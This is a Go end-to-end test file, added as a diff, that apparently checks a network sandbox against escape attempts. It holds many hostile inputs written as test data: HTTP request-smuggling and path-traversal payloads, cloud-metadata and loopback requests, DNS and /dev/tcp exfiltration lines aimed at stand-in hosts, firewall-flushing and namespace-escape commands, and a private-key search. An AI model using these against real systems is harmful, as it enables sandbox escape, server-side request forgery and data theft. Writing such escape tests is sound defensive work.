@@ -1,0 +1,467 @@
+package e2e
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/creel-run/creel/audit"
+)
+
+// arena is a sandbox for network attacks. Every name leads to the sink, whether
+// the policy allows it or not: what gets through is seen.
+type arena struct {
+	*live
+	s *sink
+	n int
+}
+
+const arenaRules = `network_policies:
+  ok:
+    endpoints:
+      - host: ok.test
+        ports: [80, 443]
+        protocol: rest
+        rules:
+          - allow: {method: GET, path: "/public/**"}
+          - allow: {method: POST, path: "/public/**"}
+          - allow: {method: GET, path: "/redirect"}
+        deny_rules:
+          - {method: "*", path: "/public/secret/**"}
+    binaries: any
+  wild:
+    endpoints:
+      - {host: "*.wild.test", ports: [80, 443], protocol: rest, access: full}
+    binaries: any
+  relayed:
+    endpoints:
+      - {host: l4.test, ports: [443, 5000]}
+    binaries: any
+  named:
+    endpoints:
+      - {host: int.test, ports: [80, 443], protocol: rest, access: full}
+      - {host: loop.test, ports: [80, 443], protocol: rest, access: full}
+    binaries: any
+`
+
+func newArena(t *testing.T) *arena {
+	t.Helper()
+	s := newSink(t)
+	b := box{policy: policyHead() + arenaRules, flags: join(s.upstreams("ok.test", "a.wild.test", "l4.test", "no.test", "evil-ok.test", "xok.test", "ok.test.no.test", "wild.test",
+		"a.b.wild.test", "evilwild.test", "ns.exf.test"), []string{"--trust-ca", caFile(t)})}
+	return &arena{live: b.start(t), s: s}
+}
+
+// attack is one try on one way in. Its bytes carry MARK, which must not arrive.
+type attack struct {
+	what string
+	do   func(a *arena, mark string) string
+
+	silent bool // it ends before anything that could be an event: the sink alone decides
+}
+
+// run runs the attacks of one line of the catalogue, then the positive control.
+func (a *arena) run(t *testing.T, id string, attacks ...attack) {
+	t.Run("escape_"+id, func(t *testing.T) {
+		outer := a.t
+		a.t = t
+		defer func() { a.t = outer }()
+		for _, x := range attacks {
+			a.n++
+			mark := fmt.Sprintf("mark%s%d", strings.ReplaceAll(id, "-", ""), a.n)
+			seq := len(a.events())
+			got := x.do(a, mark)
+			if a.s.holds(mark) {
+				t.Errorf("%s: it reached the sink:\n%s", x.what, got)
+			}
+			if !x.silent {
+				e := a.denied(seq)
+				if strings.ContainsAny(e.Host+e.Path+e.Reason, "\r\n\x1b\x00") {
+					t.Errorf("%s: raw control bytes in the event: %+v", x.what, e)
+				}
+			}
+		}
+		a.n++
+		path := fmt.Sprintf("/public/control%d", a.n)
+		if got := a.sh("curl -sS https://ok.test" + path); !a.s.got(path) {
+			t.Fatalf("the sandbox does not work afterwards: %s", got)
+		}
+	})
+}
+
+// ways makes one attack of each way in out of a host and a request.
+func ways(what, host, method, target string, lines ...string) (all []attack) {
+	for _, w := range []struct {
+		name, way string
+		tls       bool
+	}{{"transparent https", transparent, true}, {"transparent http", transparent, false}, {"connect https", connect, true}, {"connect http", connect, false}, {"absolute", absolute, false}} {
+		all = append(all, attack{what: what + ", " + w.name, do: func(a *arena, mark string) string {
+			return a.request(w.way, host, w.tls, method, strings.ReplaceAll(target, "MARK", mark), lines...)
+		}})
+	}
+	return all
+}
+
+// raw makes an attack of exact bytes to ok.test on each way that fits.
+func raw(what, payload string) (all []attack) {
+	for _, w := range []wire{
+		{Way: transparent, Host: "ok.test", TLS: true}, {Way: transparent, Host: "ok.test"}, {Way: connect, Host: "ok.test", TLS: true},
+		{Way: absolute, Host: "ok.test"},
+	} {
+		all = append(all, attack{what: what + ", " + w.Way, do: func(a *arena, mark string) string {
+			text := strings.ReplaceAll(payload, "MARK", mark)
+			if w.Way == absolute {
+				method, rest, _ := strings.Cut(text, " ")
+				text = method + " http://ok.test" + rest
+			}
+			w := w
+			w.Payload = []byte(text)
+			return a.wire(w)
+		}})
+	}
+	return all
+}
+
+func script(text string) attack {
+	return attack{what: text, do: func(a *arena, mark string) string { return a.sh(strings.ReplaceAll(text, "MARK", mark)) }}
+}
+
+func scripts(list ...string) (all []attack) {
+	for _, s := range list {
+		all = append(all, script(s))
+	}
+	return all
+}
+
+func quiet(list []attack) []attack {
+	for i := range list {
+		list[i].silent = true
+	}
+	return list
+}
+
+func attacks(lists ...[]attack) (all []attack) {
+	for _, l := range lists {
+		all = append(all, l...)
+	}
+	return all
+}
+
+// TestEscapeNames: NAM.
+func TestEscapeNames(t *testing.T) {
+	bothUsers(t, func(t *testing.T) {
+		a := newArena(t)
+		a.run(t, "NAM-01", attacks(ways("suffix", "evil-ok.test", "GET", "/public/MARK"), ways("suffix", "xok.test", "GET", "/public/MARK"),
+			ways("the domain itself", "wild.test", "GET", "/MARK"), ways("suffix of wildcard", "evilwild.test", "GET", "/MARK"), ways("two labels", "a.b.wild.test", "GET", "/MARK"))...)
+		a.run(t, "NAM-02", ways("prefix", "ok.test.no.test", "GET", "/public/MARK")...)
+		var connects []attack
+		for _, target := range []string{"[no.test]:443", "[[no.test]]:443", "no.test\x00.ok.test:443", "ok.test%00.no.test:443", "ok.test@no.test:443", "no.test#ok.test:443",
+			"no.test\\ok.test:443", " no.test:443", "no.test:443:443", "no.test", "no.test:0443x", "no.test:-1", "no.test:65979", "[::ffff:127.0.0.1]:443", "ok.test:443@no.test:443",
+			"no.test.:443", "NO.TEST:443", "xn--no-.test:443", "..:443", ":443", "*:443", "*.wild.test:443", "ok.test,no.test:443", "127.0.0.1:3128", "[::1]:3128", "localhost:3128", "0.0.0.0:443"} {
+			connects = append(connects, attack{what: "CONNECT " + target, do: func(a *arena, mark string) string {
+				return a.wire(wire{Way: connect, Head: "CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: no.test\r\n\r\n")})
+			}})
+		}
+		a.run(t, "NAM-06", connects...)
+		a.run(t, "NAM-07", attacks(scripts("curl -sS 'http://ok.test@no.test/public/MARK'", "curl -sS -x http://127.0.0.1:3128 'http://ok.test@no.test/public/MARK'"),
+			raw("userinfo", "GET http://ok.test@no.test/public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n")[:3], raw("backslash", "GET http://no.test\\@ok.test/public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n")[:3],
+			raw("fragment", "GET http://no.test#@ok.test/public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n")[:3], absolutes("http://ok.test@no.test/public/MARK", "http://no.test\\@ok.test/public/MARK",
+				"http://no.test#@ok.test/public/MARK", "http:///no.test/public/MARK", "http:no.test/public/MARK", "HTTP://NO.TEST/public/MARK", "//no.test/public/MARK", "gopher://ok.test/public/MARK",
+				"https://ok.test/public/MARK", "ftp://ok.test/public/MARK", "http://ok.test:80:81/public/MARK", "http://ok.test%2eno.test/public/MARK", "http://ok.test:81/public/MARK", "http://[ok.test]/public/MARK"))...)
+		// The same name in other dress is the same name, not another rule.
+		for i, url := range []string{"https://OK.TEST", "https://ok.test."} {
+			path := fmt.Sprintf("/public/dress%d", i)
+			if got := a.sh("curl -sS " + url + path); !a.s.got(path) && i == 0 {
+				t.Errorf("%s: %s", url, got)
+			}
+		}
+	})
+}
+
+// absolutes are request targets at the proxy.
+func absolutes(targets ...string) (all []attack) {
+	for _, target := range targets {
+		all = append(all, attack{what: "absolute " + target, do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: absolute, Host: "ok.test", Payload: []byte("GET " + strings.ReplaceAll(target, "MARK", mark) + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}})
+	}
+	return all
+}
+
+// TestEscapeHTTP: framing and the judgement of requests.
+func TestEscapeHTTP(t *testing.T) {
+	bothUsers(t, func(t *testing.T) {
+		a := newArena(t)
+		a.run(t, "HTTP-01", attacks(ways("method", "ok.test", "DELETE", "/public/MARK"), ways("path", "ok.test", "GET", "/private/MARK"),
+			ways("deny rule", "ok.test", "GET", "/public/secret/MARK"), ways("asterisk", "ok.test", "OPTIONS", "/MARK"))...)
+		var dots []attack
+		for _, p := range []string{"/public/../MARK", "/public/%2e%2e/MARK", "/public/.%2E/MARK", "/public/x/../../MARK", "/public/..;/MARK", "/public//../MARK", "/public/secret/MARK",
+			"/public//secret/MARK", "/public/./secret/MARK", "/public/x/../secret/MARK", "/public/%73ecret/MARK", "/public/secret;x/MARK", "/public/secret%2fMARK", "/public/..%2fMARK",
+			"/public/%2e%2e%2fMARK", "/public/..%5cMARK", "/public\\..\\MARK", "/public/%252e%252e/MARK%00", "/public/\x7f/MARK", "/public/%zz/MARK"} {
+			dots = append(dots, ways("path "+p, "ok.test", "GET", p)...)
+		}
+		// What arrives must be what the rules allow: not the mark but the path decides here.
+		t.Run("escape_HTTP-02", func(t *testing.T) {
+			outer := a.t
+			a.t = t
+			defer func() { a.t = outer }()
+			for _, x := range dots {
+				a.n++
+				got := x.do(a, fmt.Sprintf("dot%d", a.n))
+				for _, r := range a.s.requests() {
+					if !strings.HasPrefix(r.URI, "/public/") || strings.HasPrefix(r.URI, "/public/secret") || strings.Contains(r.URI, "..") || strings.Contains(strings.ToLower(r.URI), "%2e") ||
+						strings.Contains(strings.ToLower(r.URI), "%5c") || strings.Contains(strings.ToLower(r.URI), "%2f") {
+						t.Fatalf("%s: the sink got %s\n%s", x.what, r.URI, got)
+					}
+				}
+			}
+		})
+		const post = "POST /public/a HTTP/1.1\r\nHost: ok.test\r\n"
+		const hidden = "GET /private/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n"
+		a.run(t, "HTTP-04", attacks(raw("two lengths", post+"Content-Length: 5\r\nContent-Length: 60\r\n\r\n12345"+hidden), raw("list", post+"Content-Length: 5, 5\r\n\r\n12345"+hidden),
+			raw("plus", post+"Content-Length: +5\r\n\r\n12345"+hidden), raw("hex", post+"Content-Length: 0x5\r\n\r\n12345"+hidden), raw("negative", post+"Content-Length: -1\r\n\r\n"+hidden),
+			raw("space in name", post+"Content-Length : 5\r\n\r\n12345"+hidden), raw("underscore", post+"Content_Length: 99\r\nContent-Length: 0\r\n\r\n"+hidden)[:3])...)
+		a.run(t, "HTTP-05", attacks(raw("both", post+"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden), raw("comma", post+"Transfer-Encoding: chunked,\r\n\r\n0\r\n\r\n"+hidden),
+			raw("tab", post+"Transfer-Encoding:\tchunked\x0b\r\n\r\n0\r\n\r\n"+hidden), raw("gzip", post+"Transfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n"+hidden),
+			raw("twice", post+"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"+hidden), raw("xchunked", post+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"+hidden),
+			raw("1.0", "POST /public/a HTTP/1.0\r\nHost: ok.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden),
+			raw("get with body", "GET /public/a HTTP/1.1\r\nHost: ok.test\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"+hidden))...)
+		a.run(t, "HTTP-06", attacks(raw("bare lf", "GET /public/a HTTP/1.1\nHost: ok.test\n\n"+hidden), raw("lf in head", "GET /public/a HTTP/1.1\r\nHost: ok.test\r\nX: a\nTransfer-Encoding: chunked\r\n\r\n"+hidden),
+			raw("bare cr", "GET /public/a HTTP/1.1\r\nHost: ok.test\r\nX: a\rY: b\r\n\r\n"+hidden), raw("nul", "GET /public/a HTTP/1.1\r\nHost: ok.test\r\nX: a\x00b\r\n\r\n"+hidden),
+			raw("chunk size", post+"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n0\r\n\r\n"+hidden), raw("chunk lf", post+"Transfer-Encoding: chunked\r\n\r\n5;x=\n12345\r\n0\r\n\r\n"+hidden),
+			raw("chunk 0x", post+"Transfer-Encoding: chunked\r\n\r\n0x5\r\n12345\r\n0\r\n\r\n"+hidden), raw("long chunk size", post+"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n12345\r\n0\r\n\r\n"+hidden),
+			raw("chunk overrun", post+"Transfer-Encoding: chunked\r\n\r\n3\r\n12345\r\n0\r\n\r\n"+hidden))...)
+		a.run(t, "HTTP-08", attacks(
+			raw("other Host", "GET /public/MARK HTTP/1.1\r\nHost: no.test\r\n\r\n"), raw("other port", "GET /public/MARK HTTP/1.1\r\nHost: ok.test:81\r\n\r\n"),
+			raw("empty Host", "GET /public/MARK HTTP/1.1\r\nHost:\r\n\r\n"), raw("no Host", "GET /public/MARK HTTP/1.1\r\n\r\n"), raw("address", "GET /public/MARK HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
+			raw("absolute inside", "GET http://no.test/public/MARK HTTP/1.1\r\nHost: ok.test\r\n\r\n")[:3],
+			[]attack{{what: "CONNECT and Host", do: func(a *arena, mark string) string {
+				return a.wire(wire{Way: connect, Head: "CONNECT ok.test:443 HTTP/1.1\r\nHost: no.test:443\r\n\r\n", Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+			}}})...)
+		a.run(t, "HTTP-09", attacks(raw("two", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\nHost: no.test\r\n\r\n"), raw("space", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\nHost : no.test\r\n\r\n"),
+			raw("folded", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\n no.test\r\n\r\n"), raw("leading space", "GET /public/MARK HTTP/1.1\r\n Host: no.test\r\nHost: ok.test\r\n\r\n"),
+			raw("same twice", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\nHost: ok.test\r\n\r\n"))...)
+		a.run(t, "HTTP-12", attacks(raw("h2c", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"),
+			raw("preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK")[:3], raw("websocket", "GET /public/MARK HTTP/1.1\r\nHost: ok.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"),
+			scripts("curl -sS --http2-prior-knowledge http://ok.test/public/MARK"))...)
+		a.run(t, "HTTP-18", attacks(raw("ssh", "SSH-2.0-OpenSSH_9.2 MARK\r\n")[:3], raw("binary", "\x00\x01\x02MARK\xff")[:3], raw("smtp", "EHLO MARK\r\n")[:3], raw("0.9", "GET /public/MARK\r\n\r\n")[:3],
+			raw("http/3", "GET /public/MARK HTTP/3.0\r\nHost: ok.test\r\n\r\n")[:3], raw("rtsp", "GET /public/MARK RTSP/1.0\r\nHost: ok.test\r\n\r\n")[:3])...)
+		a.run(t, "HTTP-20", scripts("curl -sSL 'https://ok.test/redirect?to=http%3A%2F%2Fno.test%2Fpublic%2FMARK' >/dev/null; curl -sS https://no.test/", "curl -sSL 'https://ok.test/redirect?to=http://169.254.169.254/'",
+			"curl -sSL -x http://127.0.0.1:3128 'http://ok.test/redirect?to=https://no.test/'")[1:]...)
+		a.run(t, "HTTP-21", attacks([]attack{{what: "CONNECT in CONNECT", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: connect, Host: "ok.test", Port: 80, Payload: []byte("CONNECT no.test:443 HTTP/1.1\r\nHost: no.test:443\r\n\r\n" + mark)})
+		}}, {what: "CONNECT in TLS", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: connect, Host: "ok.test", TLS: true, Payload: []byte("CONNECT no.test:443 HTTP/1.1\r\nHost: no.test:443\r\n\r\n" + mark)})
+		}}, {what: "transparent CONNECT", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: transparent, Host: "ok.test", Payload: []byte("CONNECT no.test:443 HTTP/1.1\r\nHost: no.test:443\r\n\r\n" + mark)})
+		}}, {what: "proxy through the proxy", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: connect, Host: "127.0.0.1", Port: 3128, Payload: []byte("GET http://no.test/" + mark + " HTTP/1.1\r\nHost: no.test\r\n\r\n")})
+		}}})...)
+		t.Run("escape_HTTP-10", func(t *testing.T) {
+			for i, h := range []string{"X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X_HTTP_Method_Override: DELETE", "x-http-method-override: DELETE"} {
+				for _, way := range []struct {
+					way string
+					tls bool
+				}{{transparent, true}, {connect, true}, {absolute, false}} {
+					path := fmt.Sprintf("/public/override%d%s%v", i, way.way, way.tls)
+					got := a.request(way.way, "ok.test", way.tls, "POST", path, h, "Content-Length: 0")
+					for _, r := range a.s.requests() {
+						if r.URI != path {
+							continue
+						}
+						for k := range r.Header {
+							if strings.Contains(strings.ToLower(k), "method") {
+								t.Errorf("%s arrived: %s\n%s", h, k, got)
+							}
+						}
+					}
+				}
+			}
+		})
+		// A second request on a kept connection is judged like the first.
+		a.run(t, "HTTP-01-keepalive", attack{what: "second request", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: transparent, Host: "ok.test", TLS: true, Payload: []byte("GET /public/first HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
+				Then: []byte("DELETE /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}, attack{what: "pipelined", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: connect, Host: "ok.test", TLS: true, Payload: []byte("GET /public/first HTTP/1.1\r\nHost: ok.test\r\n\r\nGET /private/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}, attack{what: "other host on a forward connection", silent: true, do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: absolute, Host: "ok.test", Payload: []byte("GET http://ok.test/public/first HTTP/1.1\r\nHost: ok.test\r\n\r\n"),
+				Then: []byte("GET http://no.test/" + mark + " HTTP/1.1\r\nHost: no.test\r\n\r\n")})
+		}})
+	})
+}
+
+// TestEscapeTLS: TLS.
+func TestEscapeTLS(t *testing.T) {
+	bothUsers(t, func(t *testing.T) {
+		a := newArena(t)
+		get := func(mark string) []byte {
+			return []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")
+		}
+		tls := func(what string, w wire) attack {
+			return attack{what: what, do: func(a *arena, mark string) string {
+				w := w
+				w.TLS, w.Payload = true, get(mark)
+				return a.wire(w)
+			}}
+		}
+		var sni, none, plain, alpn []attack
+		for _, host := range []string{"ok.test", "l4.test"} {
+			for _, way := range []string{transparent, connect} {
+				sni = append(sni, tls("SNI no.test to "+host+" "+way, wire{Way: way, Host: host, SNI: "no.test"}), tls("SNI of another allowed host "+host+" "+way, wire{Way: way, Host: host, SNI: "a.wild.test"}))
+				none = append(none, tls("no SNI, "+host+" "+way, wire{Way: way, Host: host, NoSNI: true}))
+			}
+		}
+		a.run(t, "TLS-01", sni...)
+		a.run(t, "TLS-03", none...)
+		for _, way := range []string{transparent, connect} {
+			alpn = append(alpn, quiet([]attack{tls("h2 only", wire{Way: way, Host: "ok.test", ALPN: []string{"h2"}}), tls("acme", wire{Way: way, Host: "ok.test", ALPN: []string{"acme-tls/1"}})})...)
+			plain = append(plain, attack{what: "TLS in TLS " + way, do: func(a *arena, mark string) string {
+				return a.wire(wire{Way: way, Host: "ok.test", TLS: true, Payload: []byte("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + mark)})
+			}})
+		}
+		a.run(t, "TLS-03-inner", plain...)
+		a.run(t, "TLS-07", alpn...)
+		// A ClientHello in segments of one byte is read like any other.
+		path := "/public/pieces"
+		got := a.wire(wire{Way: transparent, Host: "ok.test", TLS: true, Pieces: true, Payload: []byte("GET " + path + " HTTP/1.1\r\nHost: ok.test\r\nConnection: close\r\n\r\n")})
+		if !a.s.got(path) {
+			t.Errorf("a hello in pieces: %s", got)
+		}
+		a.run(t, "TLS-03-pieces", tls("no SNI in pieces", wire{Way: transparent, Host: "ok.test", NoSNI: true, Pieces: true}), tls("wrong SNI in pieces", wire{Way: connect, Host: "l4.test", SNI: "no.test", Pieces: true}))
+		t.Run("escape_TLS-06", func(t *testing.T) {
+			// Plain HTTP on 443 is judged as a request there and never passed on blindly.
+			seq := len(a.events())
+			a.wire(wire{Way: transparent, Host: "ok.test", Port: 443, Payload: []byte("GET /private/plain443 HTTP/1.1\r\nHost: ok.test:443\r\n\r\n")})
+			a.denied(seq)
+			if a.s.holds("plain443") {
+				t.Error("it reached the sink")
+			}
+		})
+		t.Run("escape_TLS-05", func(t *testing.T) {
+			got := a.sh(`grep -rl --include='*.pem' --include='*.key' --include='*.crt' 'PRIVATE KEY' / 2>/dev/null | grep -v '^/proc\|^/usr/share\|^/etc/ssl/private'; openssl x509 -in /run/creel/ca.pem -noout -text | grep -c 'CA:TRUE'; ls /run/creel`)
+			if strings.Contains(got, "creel") && strings.Contains(got, "key") {
+				t.Errorf("a key inside: %s", got)
+			}
+		})
+	})
+}
+
+// TestEscapeAddresses: IP and DNS.
+func TestEscapeAddresses(t *testing.T) {
+	bothUsers(t, func(t *testing.T) {
+		a := newArena(t)
+		// Real listeners on the host's loopback: what reaches them has escaped.
+		port := fmt.Sprint(portOf(a.s.http))
+		var legacy, wrapped, meta []attack
+		for _, h := range []string{"2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "017700000001"} {
+			legacy = append(legacy, ways("legacy "+h, h+":"+port, "GET", "/MARK")[4],
+				attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
+					return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":" + port + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
+				}})
+		}
+		a.run(t, "IP-01", legacy...)
+		for _, h := range []string{"[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::1]", "127.0.0.1", "[::]", "0.0.0.0", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]"} {
+			wrapped = append(wrapped, attack{what: "CONNECT " + h, do: func(a *arena, mark string) string {
+				return a.wire(wire{Way: connect, Head: "CONNECT " + h + ":" + port + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n", Payload: []byte("GET /" + mark + " HTTP/1.1\r\nHost: x\r\n\r\n")})
+			}}, attack{what: "absolute " + h, do: func(a *arena, mark string) string {
+				return a.wire(wire{Way: absolute, Payload: []byte("GET http://" + h + ":" + port + "/" + mark + " HTTP/1.1\r\nHost: " + h + ":" + port + "\r\n\r\n")})
+			}})
+		}
+		a.run(t, "IP-02", wrapped...)
+		for _, h := range []string{"169.254.169.254", "[fd00:ec2::254]", "169.254.170.2", "100.100.100.200", "metadata.google.internal", "metadata.google.internal.", "168.63.129.16"} {
+			meta = append(meta, scripts("curl -sS -m 5 http://"+h+"/MARK", "curl -sS -m 5 -x http://127.0.0.1:3128 http://"+h+"/MARK", "curl -sSk -m 5 -px http://127.0.0.1:3128 https://"+h+"/MARK")...)
+		}
+		a.run(t, "IP-03", meta...)
+		a.run(t, "IP-04", quiet(scripts("curl -sS http://127.0.0.1:"+port+"/MARK", "curl -sS http://localhost:"+port+"/MARK", "curl -sS http://x.localhost:"+port+"/MARK", "curl -sS http://0.0.0.0:"+port+"/MARK",
+			"curl -sS http://[::1]:"+port+"/MARK", "curl -sS http://localhost.:"+port+"/MARK"))...)
+		// Direct addresses, in the range of the names above all.
+		a.run(t, "IP-04-direct", scripts("curl -sS -m 5 http://10.0.0.1/MARK", "curl -sS -m 5 http://192.0.2.1/MARK", "curl -sSk -m 5 --resolve ok.test:443:192.0.2.7 https://ok.test/public/MARK",
+			"curl -sS -m 5 --resolve ok.test:80:203.0.113.9 http://ok.test/public/MARK")...)
+
+		a.run(t, "DNS-01", quiet(scripts("getent hosts MARK.ns.exf.test; ping -c1 -W1 MARK.ns.exf.test"))...)
+		t.Run("escape_DNS-03_DNS-05_DNS-06_DNS-07", func(t *testing.T) {
+			// Whatever server is asked, Creel answers: addresses that stand for the name, and nothing else.
+			for _, server := range []string{"", "8.8.8.8", "1.1.1.1", "[2001:4860:4860::8888]", "127.0.0.1", "tcp:8.8.4.4", "tcp:[2001:4860:4860::8888]"} {
+				got := a.probe("dns", server, "anything.no.test")
+				text := string(got.Stdout) + string(got.Stderr)
+				for _, want := range []string{"A: ok", "AAAA: ok", "TXT: empty", "NULL: empty", "HTTPS: empty", "CNAME: empty", "MX: empty", "ANY: empty"} {
+					if !strings.Contains(text, want) {
+						t.Errorf("server %q: no %q in %s", server, want, text)
+					}
+				}
+			}
+			for _, c := range []string{"echo 1.2.3.4 ok.test >> /etc/hosts", "echo nameserver 8.8.8.8 > /etc/resolv.conf", "rm /etc/resolv.conf", "mv /etc/hosts /etc/h", "ln -sf /tmp/x /etc/resolv.conf"} {
+				if x := a.do("sh", "-c", c); x.Code == 0 {
+					t.Errorf("%s: succeeded", c)
+				}
+			}
+		})
+		a.run(t, "DNS-04", scripts("curl -sS -m 5 'https://dns.google/resolve?name=MARK'", "curl -sS -m 5 -x http://127.0.0.1:3128 'https://cloudflare-dns.com/dns-query?name=MARK'",
+			"bash -c 'exec 3<>/dev/tcp/8.8.8.8/853; echo MARK >&3; cat <&3'", "curl -sSk -m 5 https://8.8.8.8/MARK")...)
+		a.run(t, "DNS-10", scripts("curl -sS -m 5 http://kubernetes.default.svc/MARK", "curl -sS -m 5 http://metadata/MARK", "curl -sS -m 5 http://int.test/MARK", "curl -sS -m 5 -x http://127.0.0.1:3128 http://int.test/MARK")[:2]...)
+	})
+}
+
+// TestEscapeNetwork: layers 3 and 4.
+func TestEscapeNetwork(t *testing.T) {
+	bothUsers(t, func(t *testing.T) {
+		a := newArena(t)
+		a.run(t, "NET-02", attacks(scripts("bash -c 'exec 3<>/dev/tcp/no.test/443; echo MARK >&3; cat <&3'", "bash -c 'exec 3<>/dev/tcp/192.0.2.1/443; echo MARK >&3; cat <&3'",
+			"env -i /usr/bin/curl -sS -m 5 http://no.test/MARK", "env -i /usr/bin/bash -c 'exec 3<>/dev/tcp/no.test/22; echo MARK >&3; cat <&3'"))...)
+		a.run(t, "NET-03", attack{what: "ports", do: func(a *arena, mark string) string {
+			x := a.probe("sweep", "no.test", mark)
+			return string(x.Stdout) + string(x.Stderr)
+		}})
+		t.Run("escape_NET-06_NET-10", func(t *testing.T) {
+			x := a.probe("sockets")
+			if x.Code != 0 {
+				t.Errorf("%s%s", x.Stdout, x.Stderr)
+			}
+			seq := len(a.events())
+			y := a.probe("udp", "192.0.2.5:4433", "udpmark")
+			if !strings.Contains(string(y.Stdout), "refused") {
+				t.Errorf("udp: %s%s", y.Stdout, y.Stderr)
+			}
+			a.event(seq, "a refused packet", func(e audit.Event) bool {
+				return e.Kind == audit.Refused && e.Protocol == "udp" && e.Host == "192.0.2.5"
+			})
+		})
+		t.Run("escape_NET-07_NET-09", func(t *testing.T) {
+			for _, c := range []string{"nft flush ruleset", "nft list ruleset", "iptables -t nat -F", "ip route del default", "ip link set lo down", "ip addr add 10.9.9.9/8 dev lo", "nsenter -t 1 -n true",
+				"unshare -n true", "unshare -Urn true", "unshare -U true", "ip netns add x", "sysctl -w net.ipv4.ip_forward=1", "nsenter --net=/proc/1/ns/net true"} {
+				if x := a.do("sh", "-c", "PATH=$PATH:/usr/sbin:/sbin; "+c); x.Code == 0 {
+					t.Errorf("%s: succeeded: %s", c, x.Stdout)
+				}
+			}
+		})
+		t.Run("escape_NET-16", func(t *testing.T) {
+			// From the host nothing of the sandbox can be reached: no listener is in its namespace.
+			for _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
+				if text := readFile(t, f); strings.Contains(text, ":0C38 ") || strings.Contains(text, ":7919 ") {
+					t.Errorf("%s: a listener of a sandbox stands in the host's network:\n%s", f, text)
+				}
+			}
+		})
+		// Straight to the listeners, under every name they have.
+		a.run(t, "NET-15", attacks([]attack{{what: "redirect listener", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: transparent, Host: "127.0.0.1", Port: 31001, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}, {what: "redirect listener, IPv6", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: transparent, Host: "::1", Port: 31001, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}, {what: "origin form at the proxy", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: absolute, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}, {what: "TLS at the proxy", do: func(a *arena, mark string) string {
+			return a.wire(wire{Way: absolute, Host: "ok.test", TLS: true, Payload: []byte("GET /public/" + mark + " HTTP/1.1\r\nHost: ok.test\r\n\r\n")})
+		}}})...)
+		// Servers of the agent's own, on its own loopback, keep working.
+		if got := a.sh(`python3 -c '
+import socket, threading
+for fam, addr in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
+    s = socket.socket(fam); s.bind((addr, 0)); s.listen()
+    c = socket.create_connection((addr, s.getsockname()[1])); p, _ = s.accept(); c.sendall(b"hello"); print(p.recv(5))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("127.0.0.1", 0)); v = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); v.sendto(b"dgram", u.getsockname()); print(u.recv(9))
+'`); strings.Count(got, "hello") != 2 || !strings.Contains(got, "dgram") {
+			t.Errorf("loopback inside: %s", got)
+		}
+	})
+}
